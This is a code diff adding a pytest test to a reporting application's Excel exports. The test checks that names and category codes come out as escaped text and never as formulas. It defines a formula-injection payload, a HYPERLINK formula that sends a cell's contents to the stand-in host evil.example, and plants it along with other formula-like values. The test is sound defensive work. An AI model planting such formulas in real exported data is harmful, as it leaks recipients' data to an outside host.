@@ -110,3 +110,39 @@ def test_exports_are_refused_to_other_roles(populated, client, role):
 def test_unknown_export_is_not_found(populated, client):
     sign_in(client, populated["users"]["admin"])
     assert client.get(f"/reporting/{populated['programme'].code}/esf/other.xlsx").status_code == 404
+
+
+HOSTILE_NAME = '=HYPERLINK("http://evil.example/?"&B2,"Klicka")'
+
+
+def cells(book) -> list:
+    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
+
+
+@pytest.mark.parametrize("kind", sorted(EXPORTS))
+def test_hostile_names_and_codes_come_out_as_text(with_personnummer, client, kind):
+    """A name from a coordinator or an import, or a category code, never becomes a formula."""
+    person = with_personnummer["people"][0]
+    person.first_name = HOSTILE_NAME
+    person.last_name = "@SUM(A1:A9)"
+    person.save()
+    person.workplace.name = "-2+3"
+    person.workplace.save()
+    person.staff_category.code = "+socialsekreterare"
+    person.staff_category.save()
+    book = download(
+        client, with_personnummer["users"]["admin"], with_personnummer["programme"].code, kind
+    )
+    every = cells(book)
+    assert not [cell.coordinate for cell in every if cell.data_type == "f"]
+    texts = {cell.value for cell in every if cell.data_type == "s"}
+    expected = {
+        "participants": {"'" + HOSTILE_NAME, "'@SUM(A1:A9)", "'+socialsekreterare"},
+        "attendance": {"'" + HOSTILE_NAME, "'@SUM(A1:A9)", "'-2+3"},
+        "cofinancing": {"'+socialsekreterare"},
+    }[kind]
+    assert expected <= texts
+    assert HOSTILE_NAME not in texts
+    numbers = [c.value for c in every if c.data_type == "n" and c.value is not None]
+    assert numbers
+    assert all(isinstance(value, int | float) for value in numbers)
